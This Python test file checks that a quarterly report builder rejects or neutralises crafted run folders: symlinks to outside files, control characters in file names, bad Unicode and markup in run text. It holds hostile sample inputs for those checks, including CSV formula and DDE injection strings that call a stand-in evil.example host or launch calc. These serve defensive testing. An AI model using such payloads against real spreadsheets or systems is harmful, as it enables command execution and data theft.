"""Run folders are untrusted input (security review, issue 18): crafted folders are refused
or neutralised, never fatal, and nothing in them reaches the report as markup or formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from reports import build_report, charts
from reports.document import Bullets, Doc, Para
from reports.drills import STEPS_CHARTED, chart_file
from reports.load import load_runs
from reports.render_md import render_markdown

Q = "2026-Q4"
MATH = r"$\foo{x}$"
#: Text GitHub would turn into a link: a scheme URL, a ``www.`` host or an e-mail address.
AUTOLINK = re.compile(r"(?i)[a-z][a-z0-9+.-]*://|www\.|[\w.+-]+@[\w-]+\.\w")
CODE_SPAN = re.compile(r"(`+)(?:(?!\1).)+?\1")


def _build(runs_dir: Path, out: Path, catalog):
    outcome = build_report(Q, runs_dir=runs_dir, out_dir=out, catalog=catalog)
    files = {p.suffix: p.read_text(encoding="utf-8") for p in outcome.paths[:4]}
    return outcome, files


def _reasons(outcome) -> dict[str, str]:
    return {s.folder: s.reason for s in outcome.skipped}


def _outside(tmp_path: Path, factory_at, **kwargs) -> Path:
    """A sound run folder outside the runs folder (what a link would point to)."""
    return factory_at(tmp_path / "elsewhere")(**kwargs)


def test_report_csv_formula_text_cells_quoted_numbers_kept(make_run, runs_dir, tmp_path, catalog):
    hostile = {
        "target": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
        "reason": "-2+3+cmd|' /C calc'!A0",
        "user": "@SUM(1+1)*cmd|' /C calc'!A0",
        "host": "\t=1+1",
    }
    folder = make_run(
        "rds-failover",
        rto_s=400.0,  # target 300 s: the margin is the number -100.0
        reason=hostile["reason"],
        user=hostile["user"],
        host=hostile["host"],
    )
    make_run.edit(folder, lambda d: d.update(target=hostile["target"]))
    make_run.edit(folder, lambda d: d["harness"].update(git_commit="\r=2*3", version="+1"))
    outcome, _ = _build(runs_dir, tmp_path / "out", catalog)
    (row,) = csv.DictReader(io.StringIO((tmp_path / "out" / f"{Q}.csv").read_bytes().decode()))
    for key, value in {**hostile, "git_commit": "\r=2*3", "harness_version": "+1"}.items():
        assert row[key] == "'" + value.replace("\r", "\n"), key  # a CR cannot split the row
    assert row["rto_margin_s"] == "-100.0" and float(row["rto_margin_s"]) == -100.0
    assert row["rto_s"] == "400.0" and row["verdict"] == "MISSED RTO"
    assert outcome.n_runs == 1


def test_build_report_symlinked_result_or_math_text_skipped_or_drawn_not_fatal(
    make_run, runs_dir, tmp_path, factory_at, catalog
):
    linked = make_run("rds-failover", started_at="2026-11-01T10:00:00Z")
    (linked / "result.json").unlink()
    outside = _outside(tmp_path, factory_at, started_at="2026-11-02T10:00:00Z")
    (linked / "result.json").symlink_to(outside / "result.json")
    step = {"started_at": "2026-11-20T08:01:00Z", "duration_s": 60.0, "ok": True}
    mathy = make_run(
        "region-failover",
        started_at="2026-11-20T08:00:00Z",
        rto_s=3600.0,
        hz=0.2,
        steps=[{**step, "name": MATH, "detail": MATH}],
    )
    make_run.edit(mathy, lambda d: d.update(run_id=f"{MATH}-run"))
    timeline = (mathy / "timeline.csv").read_text().replace(",pgw,", f",{MATH},")
    (mathy / "timeline.csv").write_text(timeline)  # a service name, on the y axis
    outcome, files = _build(runs_dir, tmp_path / "out", catalog)
    assert "result.json" in _reasons(outcome)[linked.name]
    assert "symbolic link" in _reasons(outcome)[linked.name]
    assert outcome.n_runs == 1 and len(outcome.skipped) == 1
    assert (tmp_path / "out" / chart_file(Q, "steps", f"{MATH}-run")).is_file()
    assert (tmp_path / "out" / chart_file(Q, "timeline", f"{MATH}-run")).is_file()
    assert r"\$\\foo{x}\$" in files[".md"] and MATH in files[".html"]


def test_build_report_chart_failing_or_many_steps_noted_capped_not_fatal(
    make_run, runs_dir, tmp_path, catalog, monkeypatch
):
    def broken(*args, **kwargs):
        raise ValueError("crafted")

    charted: list[int] = []
    monkeypatch.setattr(charts, "timeline_chart", broken)
    monkeypatch.setattr(
        charts, "steps_chart", lambda steps, title: charted.append(len(steps)) or b"png"
    )
    step = {"started_at": "2026-11-20T08:01:00Z", "duration_s": 1.0, "ok": True}
    steps = [{**step, "name": f"step {i}"} for i in range(STEPS_CHARTED + 1)]
    make_run("region-failover", started_at="2026-11-20T08:00:00Z", hz=0.2, steps=steps)
    outcome, files = _build(runs_dir, tmp_path / "out", catalog)
    assert outcome.n_runs == 1 and charted == [STEPS_CHARTED]
    assert "The chart could not be drawn (ValueError)." in files[".md"]
    assert f"| step {STEPS_CHARTED} |" in files[".md"]  # the table lists every step


def test_load_runs_lone_surrogate_in_result_skipped_not_fatal(
    make_run, runs_dir, tmp_path, catalog
):
    folder = make_run(status="failed", rto_s=None, reason="x")
    raw = (folder / "result.json").read_text(encoding="utf-8")
    (folder / "result.json").write_text(raw.replace('"reason": "x"', '"reason": "\\ud800"'))
    outcome, _ = _build(runs_dir, tmp_path / "out", catalog)
    assert "not valid Unicode" in _reasons(outcome)[folder.name]


def test_build_report_symlink_in_run_folder_skipped_link_named_not_read(
    make_run, runs_dir, tmp_path, factory_at, catalog
):
    secret = tmp_path / "secret.csv"
    secret.write_text("payment_id,client,amount,sent_at\nSECRET-QR-1,SECRET-CLIENT,999,x\n")
    recon = make_run("pgw-region-failover", rto_s=300.0, rpo_s=0.4, lost=3)
    (recon / "reconciliation.csv").symlink_to(secret)
    timeline = make_run("rds-failover", started_at="2026-11-02T10:00:00Z")
    (timeline / "timeline.csv").unlink()
    (timeline / "timeline.csv").symlink_to(secret)
    nested = make_run("rds-failover", started_at="2026-11-03T10:00:00Z")
    (nested / "locust").symlink_to(tmp_path, target_is_directory=True)
    whole = runs_dir / "20261104T100000Z-linked-folder"
    whole.symlink_to(_outside(tmp_path, factory_at, started_at="2026-11-04T10:00:00Z"))
    good = make_run("rds-failover", started_at="2026-11-05T10:00:00Z")
    outcome, files = _build(runs_dir, tmp_path / "out", catalog)
    reasons = _reasons(outcome)
    assert "reconciliation.csv" in reasons[recon.name]
    assert "timeline.csv" in reasons[timeline.name]
    assert "locust" in reasons[nested.name]
    assert "symbolic link" in reasons[whole.name]
    assert all("not followed" in reasons[f.name] for f in (recon, timeline, nested, whole))
    assert outcome.n_runs == 1
    for text in files.values():
        assert "SECRET" not in text
    folders = {line.split("  ", 1)[1].split("/")[0] for line in files[".sha256"].splitlines()}
    assert folders == {good.name}


def test_build_report_control_char_file_name_skipped_manifest_not_forged(
    make_run, runs_dir, tmp_path, catalog
):
    forged = "0" * 64 + "  forged-evil.json"
    bad = make_run("rds-failover", started_at="2026-11-01T10:00:00Z")
    (bad / f"notes\n{forged}").write_text("x")
    escape = make_run("rds-failover", started_at="2026-11-02T10:00:00Z")
    (escape / "tty\x1b[2Jclear.txt").write_text("x")
    renamed = runs_dir / "20261103T100000Z-run\nforged"
    make_run("rds-failover", started_at="2026-11-03T10:00:00Z").rename(renamed)
    good = make_run("rds-failover", started_at="2026-11-04T10:00:00Z")
    outcome, files = _build(runs_dir, tmp_path / "out", catalog)
    reasons = _reasons(outcome)
    assert "control character" in reasons[bad.name] and "\\n" in reasons[bad.name]
    assert "control character" in reasons[escape.name] and "\\x1b" in reasons[escape.name]
    shown = "20261103T100000Z-run\\nforged"
    assert reasons[shown].startswith(f"folder name '{shown}' has a control character")
    assert all("\n" not in s.reason + s.folder for s in outcome.skipped)
    lines = files[".sha256"].splitlines()
    assert lines and all(re.fullmatch(rf"[0-9a-f]{{64}}  {good.name}/[\w.]+", x) for x in lines)
    assert "forged" not in files[".sha256"] and not re.search("^0{64}", files[".md"], re.M)
    assert outcome.n_runs == 1


def test_build_report_bare_urls_and_markup_in_run_text_not_linked_escaped(
    make_run, runs_dir, tmp_path, catalog
):
    hostile = "see https://evil.example/x?a=1 www.evil.example ops@evil.example <b>b</b> &amp; $x$"
    step = {"started_at": "2026-11-20T08:01:00Z", "duration_s": 60.0, "ok": False}
    make_run(
        "region-failover",
        started_at="2026-11-20T08:00:00Z",
        status="failed",
        rto_s=None,
        hz=0.2,
        reason=hostile,
        steps=[{**step, "name": "ftp://evil.example/step", "detail": hostile}],
        findings=[{"id": "F1", "section": "1.4", "summary": hostile, "evidence": hostile}],
        host="mail.evil.example",
        user="ops",
    )
    outcome, files = _build(runs_dir, tmp_path / "out", catalog)
    md, html = files[".md"], files[".html"]
    assert outcome.n_runs == 1
    outside_code = [CODE_SPAN.sub("", line) for line in md.splitlines()]
    assert not [line for line in outside_code if AUTOLINK.search(line)]
    assert "`https://evil.example/x?a=1`" in md and "`ops@evil.example`" in md
    assert "`www.evil.example`" in md and "`ftp://evil.example/step`" in md
    assert r"\<b\>b\</b\> \&amp; \$x\$" in md
    assert "&lt;b&gt;b&lt;/b&gt; &amp;amp; $x$" in html and "<b>b</b>" not in html
    assert not re.search(r"<a (?!href=\"#)", html)
    doc = Doc("t", [Para("- x"), Para(" 1. x"), Bullets(["+ x", "2) x", "1.2 x"])])
    assert render_markdown(doc) == "\\- x\n\n 1\\. x\n\n- \\+ x\n- 2\\) x\n- 1.2 x\n"


def test_chart_file_run_ids_alike_or_long_distinct_bounded_files(
    make_run, runs_dir, tmp_path, catalog
):
    ids = ["20261110-a:b", "20261110-a_b", "20261110-A_b", "x" * 300]
    for i, run_id in enumerate(ids):
        folder = make_run("rds-failover", started_at=f"2026-11-1{i}T10:00:00Z")
        make_run.edit(folder, lambda d, run_id=run_id: d.update(run_id=run_id))
    outcome, files = _build(runs_dir, tmp_path / "out", catalog)
    names = [chart_file(Q, "timeline", run_id) for run_id in ids]
    assert len({n.lower() for n in names}) == len(ids)  # distinct on any file system too
    assert all(len(n.encode()) <= 160 for n in names)
    assert all((tmp_path / "out" / n).is_file() and f"]({n})" in files[".md"] for n in names)
    assert len({p.name for p in outcome.paths}) == len(outcome.paths)
    assert len(re.findall(r"data:image/png", files[".html"])) == len(ids)  # one quarter: no trend


def test_load_runs_dangling_symlink_in_folder_skipped_nothing_hashed(
    make_run, runs_dir, tmp_path, catalog
):
    folder = make_run()
    (folder / "extra.json").symlink_to(tmp_path / "nowhere.json")  # dangling: never opened
    runset = load_runs(runs_dir, catalog.scenarios)
    assert runset.runs.empty and runset.manifest.empty
    assert runset.skipped[0].folder == folder.name
    assert runset.skipped[0].reason == "extra.json is a symbolic link (not followed)"
